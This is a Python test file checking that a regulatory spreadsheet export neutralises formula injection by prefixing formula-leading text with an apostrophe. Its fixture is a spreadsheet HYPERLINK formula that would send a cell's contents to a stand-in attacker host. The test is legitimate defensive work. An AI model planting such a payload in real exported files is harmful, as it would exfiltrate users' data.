"""Formula injection (issue 21 item 9): an enterprise's name is the enterprise's to choose; the report
writes it, and any other text, so that a spreadsheet never runs it as a formula."""

import io
from datetime import date
from decimal import Decimal

import openpyxl

from aftersales.core.regulator import load_template
from aftersales.regulator.workbook import workbook_bytes

NAME = '=HYPERLINK("https://evil.example/?"&B2,"甲企业")'


def test_the_report_writes_formula_leading_text_as_text_and_numbers_as_numbers():
    template = load_template()
    plan = {
        "plan_no": "C-2026-0001",
        "org_name": NAME,
        "org_code": "91330100MA2XXXXX0X",
        "audit_address": "@杭州",
        "leader_name": "-王",
        "member_names": "+甲",
        "man_days": Decimal("-1.5"),
        "start_date": date(2026, 9, 3),
    }
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"plans": [plan]}, template=template)))
    header, row = ([c.value for c in r] for r in book["审核计划信息表"].iter_rows())
    values = dict(zip(header, row, strict=True))
    assert values["组织名称"] == "'" + NAME
    assert (values["审核地址"], values["审核组长姓名"], values["审核组成员姓名"]) == ("'@杭州", "'-王", "'+甲")
    assert values["审核人日数"] == -1.5  # a number stays a number
    assert values["审核开始日期"].date() == date(2026, 9, 3)
